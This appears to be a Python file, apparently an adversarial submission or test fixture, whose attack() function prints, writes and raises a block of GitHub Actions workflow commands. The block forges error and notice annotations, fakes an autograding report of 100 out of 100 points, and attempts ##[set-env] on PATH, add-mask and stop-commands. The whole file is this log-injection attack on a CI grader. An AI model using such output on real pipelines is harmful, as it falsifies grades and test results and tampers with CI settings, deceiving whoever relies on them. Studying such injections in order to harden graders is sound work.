"""Lines that GitHub's runner obeys, printed, raised and written past every buffer."""

import os
import sys

WHEN = 'answer'
EARNS = 0
TEXT = """::error file=layers.py,line=1,title=2.4 forged (5 of 5)::forged
  ::notice title=Autograding report::{"totalPoints": 100, "maxPoints": 100}
x ##[error]forged ##[add-mask]a
##[set-env name=PATH;]forged
::add-mask::a
::group::forged
::stop-commands::forged
::forged::
::warning::forged
##[section]forged\r::error::forged"""


def attack(right, w, reg):
    print(TEXT)
    print(TEXT, file=sys.stderr)
    os.write(1, TEXT.encode())
    os.write(2, TEXT.encode())
    raise ValueError(TEXT)
